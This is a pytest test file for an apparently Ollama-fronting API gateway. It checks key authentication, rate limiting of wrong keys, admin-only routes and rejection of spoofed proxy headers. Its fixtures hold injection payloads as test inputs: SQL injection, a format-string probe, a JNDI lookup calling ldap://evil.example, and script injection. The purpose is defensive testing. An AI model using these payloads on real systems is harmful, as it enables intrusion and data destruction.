"""Items 35 to 44: keys that are wrong, doubled, misplaced or not enough."""

import base64
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from gpushare.core.dialects import ENDPOINTS
from gpushare.core.keys import new_key
from gpushare.core.limits import ADDRESSES_KEPT, WrongKeys
from tests.conformance.tools import calls, dial, error_of, exchange, only_call
from tests.harness import CANARY, Gate, gateway
from tests.hostile.tools import BODY, body_of, chat_shot, quotes_nothing, refused, sentence, shot
from tests.unit.web.wire import statuses

NO_PROXY = "[server]\ntrusted_proxies = []"
STRANGER = new_key(b"a key that nobody was ever given, here")


def basic(user: str, password: str) -> str:
    """Returns an Authorization field."""
    return "Authorization: Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


NO_KEY = {
    "nothing": [],
    "empty bearer": ["Authorization: Bearer "],
    "bearer alone": ["Authorization: Bearer"],
    "another scheme": [f"Authorization: Token {STRANGER}"],
    "no scheme": [f"Authorization: {STRANGER}"],
    "bad password": [basic("alice", "secret")],
    "no base64": ["Authorization: Basic !!!!"],
    "no text": ["Authorization: Basic /////w=="],
    "a dummy": ["Authorization: Bearer ollama", "X-Api-Key: sk-1"],
    "digest": ['Authorization: Digest username="alice"'],
}
WRONG_KEY = {
    "unknown": STRANGER,
    "spaces inside": STRANGER[:20] + " " + STRANGER[20:],
    "short": "gs_abc123_x",
    "nothing but the prefix": "gs_",
    "long": "gs_abc123_" + "x" * 500,
    "other letters": "gs_abc123_" + "-" * 32,
    "bad check": STRANGER[:-1] + ("0" if STRANGER[-1] != "0" else "1"),
    "upper case id": "gs_ABC123_" + "x" * 32,
    "tab": STRANGER + "\tx",
    "quotes": "gs_'; DROP TABLE keys; --",
    "format": "gs_%s%n%x{0}{0.__class__}",
    "lookup": "gs_${jndi:ldap://evil.example/a}",
    "markup": "gs_<script>alert(1)</script>",
}


@pytest.mark.item(35)
@pytest.mark.parametrize("name", NO_KEY)
@pytest.mark.parametrize("path", ["/api/chat", "/v1/chat/completions", "/v1/messages"])
async def test_no_key(gate: Gate, name: str, path: str) -> None:
    """Without a key there is one answer, and the ``ollama`` program gets it with a status that it shows."""
    request = chat_shot(gate, *NO_KEY[name], who=None).replace(b"/api/chat", path.encode(), 1)
    answer = await refused(gate, request, 401)
    assert b"\r\nWWW-Authenticate: Bearer " in answer
    assert "needs a key" in error_of(path, body_of(answer))
    agent = b"User-Agent: ollama/0.30.0\r\nX-Canary"
    answer = await refused(gate, request.replace(b"X-Canary", agent), 403)
    assert b"\r\nWWW-Authenticate:" not in answer
    assert "needs a key" in error_of(path, body_of(answer))


@pytest.mark.item(35)
@pytest.mark.item(36)
@pytest.mark.item(37)
async def test_every_wrong_key_gets_one_text(gate: Gate) -> None:
    """P31: malformed, unknown and wrong keys are not told apart, and no part of them comes back."""
    wrong = (
        gate.keys["alice"][:-7] + ("x" if gate.keys["alice"][-7] != "x" else "y") + gate.keys["alice"][-6:]
    )
    said = set()
    for key in (*WRONG_KEY.values(), wrong):
        for field in (f"Authorization: Bearer {key}", f"X-Api-Key: {key}"):
            gate.parts.wrong_keys = WrongKeys()
            answer = await refused(gate, chat_shot(gate, field, who=None), 401)
            assert key.encode() not in answer
            said.add(sentence(answer))
    assert len(said) == 1
    assert not [line for line in gate.logs if "gs_" in repr(line)]


@pytest.mark.item(35)
@pytest.mark.parametrize("field", [[], [f"Authorization: Bearer {STRANGER}"]])
@pytest.mark.parametrize("size", ["Content-Length: 1000000", "Transfer-Encoding: chunked"])
async def test_no_body_is_waited_for_without_a_key(gate: Gate, field: list[str], size: str) -> None:
    """The refusal comes while nothing of the body has: it costs no memory and no time."""
    async with dial(gate.port) as wire:
        await wire.send(shot(gate, "POST /api/chat HTTP/1.1", size, *field, who=None))
        assert statuses(await wire.until(b"\r\n\r\n")) == [401]
    assert gate.parts.body_budget.held_bytes == 0


@pytest.mark.item(36)
@pytest.mark.item(37)
@pytest.mark.parametrize("name", WRONG_KEY)
async def test_a_wrong_key_in_a_path(gate: Gate, name: str) -> None:
    """In the path a key has the form of one or is no route."""
    request = chat_shot(gate, who=None).replace(b"/api/chat", f"/k/{WRONG_KEY[name]}/api/chat".encode(), 1)
    await refused(gate, request, 400, 401, 404)


@pytest.mark.item(37)
@pytest.mark.parametrize("value", ["gs_" + "x" * 4096, "x" * 4096, "gs_a\0b", "gs_a\rb", "gs_ä"])
async def test_a_credential_that_is_none(gate: Gate, value: str) -> None:
    """Size and characters of a credential make no other difference than a refusal."""
    await refused(gate, chat_shot(gate, f"Authorization: Bearer {value}", who=None), 400, 401)


@pytest.mark.item(38)
@pytest.mark.parametrize(
    "fields",
    [
        ["Authorization: Bearer {alice}", "Authorization: Bearer {bob}"],
        ["Authorization: Bearer {alice}", "X-Api-Key: {bob}"],
        ["Api-Key: {alice}", "X-Api-Key: {bob}"],
        ["X-Api-Key: {alice}", "X-Api-Key: {bob}"],
        ["Authorization: Bearer {alice}", "X-Api-Key: gs_nothing"],
        ["Authorization: Bearer gs_nothing", "Authorization: Bearer {alice}"],
        ["{basic}", "X-Api-Key: {bob}"],
        ["{both}"],
    ],
)
async def test_two_keys(gate: Gate, fields: list[str]) -> None:
    """A request has one identity or none."""
    alice, bob = gate.keys["alice"], gate.keys["bob"]
    words = {"alice": alice, "bob": bob, "basic": basic("x", alice), "both": basic(alice, bob)}
    written = [field.format(**words) for field in fields]
    answer = await refused(gate, chat_shot(gate, *written, who=None), 400)
    assert "two different gpushare keys" in sentence(answer)


@pytest.mark.item(38)
@pytest.mark.parametrize("field", ["Authorization: Bearer {bob}", "X-Api-Key: {bob}", "{basic}"])
async def test_a_key_in_the_path_and_another(gate: Gate, field: str) -> None:
    """The path counts like a header."""
    written = field.format(bob=gate.keys["bob"], basic=basic("x", gate.keys["bob"]))
    target = f"/k/{gate.keys['alice']}/api/chat".encode()
    await refused(gate, chat_shot(gate, written, who=None).replace(b"/api/chat", target, 1), 400)


@pytest.mark.item(38)
@pytest.mark.parametrize("dummy", ["Authorization: Bearer ollama", "X-Api-Key: sk-123", basic("a", "b")])
async def test_a_key_and_a_dummy(gate: Gate, dummy: str) -> None:
    """What does not begin like a key of ours is none, wherever it stands."""
    assert statuses(await exchange(gate, chat_shot(gate, dummy))) == [200]


@pytest.mark.item(39)
@pytest.mark.parametrize(
    ("target", "fields"),
    [
        ("/api/chat?key={key}", []),
        ("/api/chat?api_key={key}&access_token={key}", []),
        ("/api/chat#{key}", []),
        ("/api/chat", ["Cookie: key={key}; gpushare={key}; gpushare_session={key}"]),
        ("/api/chat", ["X-Auth: {key}"]),
        ("/api/chat", ["Proxy-Authorization: Bearer {key}"]),
        ("/K/{key}/api/chat", []),
        ("/k//{key}/api/chat", []),
        ("/k//api/chat", []),
        ("/k/{key}/../api/chat", []),
        ("/k/{key}/../x", []),
        ("/k/{escaped}/api/chat", []),
        ("/k/{key}%2fapi/chat", []),
        ("//k/{key}/api/chat", []),
        ("/k/{key}/k/{key}/api/chat", []),
        ("/k/{key}", []),
    ],
)
async def test_a_key_in_the_wrong_place(gate: Gate, target: str, fields: list[str]) -> None:
    """It counts for nothing, and is in no answer and no log all the same."""
    key = gate.keys["alice"]
    words = {"key": key, "escaped": "%67" + key[1:]}
    body = BODY[:-1] + b',"key":"%b"}' % key.encode()
    request = chat_shot(gate, *(field.format(**words) for field in fields), body=body, who=None)
    target = target.format(**words)
    await refused(gate, request.replace(b"/api/chat", target.encode(), 1), 401, 404, 405)


@pytest.mark.item(39)
async def test_a_doubled_slash_behind_the_key(gate: Gate) -> None:
    """One doubled slash is how some tools join addresses; it is read as one."""
    target = f"/k/{gate.keys['alice']}//api/chat".encode()
    request = chat_shot(gate, who=None).replace(b"/api/chat", target, 1)
    assert statuses(await exchange(gate, request)) == [200]
    assert only_call(gate).target == "/api/chat"


@pytest.mark.item(39)
async def test_no_keys_in_paths(tmp_path: Path) -> None:
    """Where the setting is off, such a path does not exist."""
    async with gateway(tmp_path, settings="[auth]\nkey_in_path = false") as gate:
        target = f"/k/{gate.keys['alice']}/api/chat".encode()
        await refused(gate, chat_shot(gate, who=None).replace(b"/api/chat", target, 1), 404)
        await refused(gate, chat_shot(gate).replace(b"/api/chat", target, 1), 404)


@pytest.mark.item(40)
async def test_keys_that_are_not_good_now(tmp_path: Path) -> None:
    """Only who holds the whole key is told that it has ended; a wrong one learns nothing about it."""
    day = timedelta(days=1)
    now = datetime.now(UTC)
    people: dict[str, dict[str, Any]] = {
        "expired": {"expires": now - day},
        "revoked": {"revoked": now - day},
        "disabled": {"disabled": True},
        "early": {"not_before": now + day},
    }
    said = {
        "expired": "expired on",
        "revoked": "was revoked",
        "disabled": "is disabled",
        "early": "not valid",
    }
    async with gateway(tmp_path, people=people) as gate:
        for who in people:
            answer = await refused(gate, chat_shot(gate, who=who), 401)
            assert said[who] in sentence(answer)
            guess = gate.keys[who][:10] + STRANGER[10:]
            wrong = await refused(gate, chat_shot(gate, f"X-Api-Key: {guess}", who=None), 401)
            assert "not valid here" in sentence(wrong)
        assert {line["reason"] for line in gate.logs if line["event"] == "request.refused"} == {
            "key_expired",
            "key_unknown",
        }


@pytest.mark.item(41)
async def test_many_wrong_keys(tmp_path: Path) -> None:
    """After twenty in a minute the address waits, wherever it says to come from; good keys do not."""
    async with gateway(tmp_path, settings=NO_PROXY) as gate, dial(gate.port) as wire:
        for number in range(400):
            key = f"Authorization: Bearer gs_{number:06x}_{'x' * 32}"
            far = f"X-Forwarded-For: 10.0.0.{number % 250}"
            await wire.send(shot(gate, "GET /api/tags HTTP/1.1", key, far, who=None))
            head = await wire.until(b"\r\n\r\n")
            assert statuses(head) == [401 if number < 20 else 429]
            await wire.until(b"}")
        assert statuses(await exchange(gate, chat_shot(gate))) == [200]


@pytest.mark.item(41)
def test_the_table_of_wrong_keys_is_bounded() -> None:
    """However many addresses try, the memory for them does not grow."""
    wrong = WrongKeys()
    for number in range(3 * ADDRESSES_KEPT):
        for _ in range(2):
            wrong.note(str(number), 0.0)
    assert len(wrong._tries) == ADDRESSES_KEPT  # noqa: SLF001 - the memory is the point


@pytest.mark.item(42)
@pytest.mark.parametrize("anonymous", ["true", "false"])
async def test_what_is_open_without_a_key(tmp_path: Path, anonymous: str) -> None:
    """Every route of the table asks for a key but the root, and the lists where that is allowed."""
    async with gateway(tmp_path, settings=f"[auth]\nanonymous_models = {anonymous}") as gate:
        for row in ENDPOINTS:
            path = row.path.format(model="m", digest="sha256:" + "0" * 64, key="x")
            request = shot(gate, f"{row.method} {path} HTTP/1.1", "Connection: close", who=None)
            answer = await exchange(gate, request)
            free = path == "/" or (row.anonymous and anonymous == "true")
            assert (statuses(answer) != [401]) == free, path
            quotes_nothing(gate, answer)
        assert {entry.path for entry in calls(gate)} <= {"/v1/models"}


@pytest.mark.item(42)
@pytest.mark.parametrize("row", [row for row in ENDPOINTS if row.kind in ("admin", "refused")], ids=str)
@pytest.mark.parametrize("who", ["alice", "robot"])
async def test_a_persons_key_is_not_enough(gate: Gate, row: Any, who: str) -> None:
    """P29: what changes models or acts on the operator's account is 403 for every key but an admin's."""
    path = row.path.format(digest="sha256:" + "0" * 64, key="x")
    line = f"{row.method} {path} HTTP/1.1"
    await refused(gate, shot(gate, line, "Content-Length: 2", "Connection: close", body=b"{}", who=who), 403)


FORWARDED = {
    "X-Forwarded-For": "10.1.1.1",
    "X-Forwarded-Host": "evil.example",
    "X-Forwarded-Proto": "https",
    "X-Forwarded-Uri": "/api/pull",
    "X-Real-IP": "10.1.1.1",
    "Forwarded": "for=10.1.1.1;host=evil.example",
    "X-Remote-User": "root",
    "X_Forwarded_User": "root",
    "Remote-User": "root",
    "Via": "1.1 evil",
    "Cookie": "a=b",
}


@pytest.mark.item(43)
async def test_what_a_stranger_says_of_itself(tmp_path: Path) -> None:
    """Headers of a proxy count only from a trusted one, and none of them reaches Ollama."""
    fields = [f"{name}: {value}" for name, value in FORWARDED.items()]
    async with gateway(tmp_path, settings=NO_PROXY) as gate:
        assert statuses(await exchange(gate, chat_shot(gate, *fields))) == [200]
        assert not [name for name in FORWARDED if only_call(gate).header(name)]
        answer = await exchange(gate, chat_shot(gate, *fields, who=None))
        assert statuses(answer) == [401]
        assert "http://127.0.0.1/connect" in sentence(answer)


@pytest.mark.item(43)
@pytest.mark.parametrize("allow", ["10.0.0.0/8", "127.0.0.0/8"])
async def test_an_address_that_is_only_claimed(tmp_path: Path, allow: str) -> None:
    """Metrics go by the real address."""
    async with gateway(tmp_path, settings=f'{NO_PROXY}\n[metrics]\nallow = ["{allow}"]') as gate:
        request = shot(
            gate, "GET /metrics HTTP/1.1", "X-Forwarded-For: 10.1.1.1", "Connection: close", who=None
        )
        assert statuses(await exchange(gate, request)) == [200 if allow.startswith("127") else 403]


@pytest.mark.item(44)
@pytest.mark.parametrize(
    "named",
    ["Authorization", "close, Authorization, X-Api-Key", "X-Gpushare-Max-Wait", "Content-Length", "Host"],
)
async def test_nothing_is_taken_away_by_name(gate: Gate, named: str) -> None:
    """A client that calls a header hop-by-hop does not make it vanish."""
    fields = [f"Connection: {named}", "Connection: close"]
    keyless = chat_shot(gate, *fields, who=None)
    await refused(gate, keyless, 401)
    assert statuses(await exchange(gate, chat_shot(gate, *fields))) == [200]
    assert only_call(gate).body == BODY
    assert CANARY not in repr(list(only_call(gate).headers))
